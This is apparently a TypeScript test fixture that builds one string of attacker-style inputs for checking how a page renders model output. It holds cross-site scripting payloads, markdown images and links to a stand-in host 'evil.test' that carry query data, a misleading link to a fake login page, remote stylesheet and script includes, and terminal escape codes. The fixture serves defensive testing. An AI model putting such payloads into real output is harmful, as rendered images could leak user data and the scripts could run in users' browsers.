const esc = String.fromCharCode(27);

/** What an attacker writes where a model reads: each line would fetch or run something if a page let it. */
export const evilText: string = [
  "![](https://evil.test/x?d=1) <img src=x onerror=alert(1)>",
  "[click me](javascript:alert(1)) javascript:alert(1) data:text/html,<script>alert(1)</script>",
  "[https://shop.example](https://evil.test/login) and ![a chart][1]",
  '<svg onload=alert(1)></svg> <iframe src="https://evil.test"></iframe> <link rel="stylesheet" href="https://evil.test/x.css">',
  "| ![](https://evil.test/table) | <style>@import 'https://evil.test/y.css'</style> |\n| :-: | --: |\n| 1 | 2 |",
  '```html\n<script src="https://evil.test/z.js"></script>\n```',
  `${esc}[31mred${esc}[0m and https://shop.example/help.`,
  "[1]: https://evil.test/chart.png?d=2",
].join("\n\n");
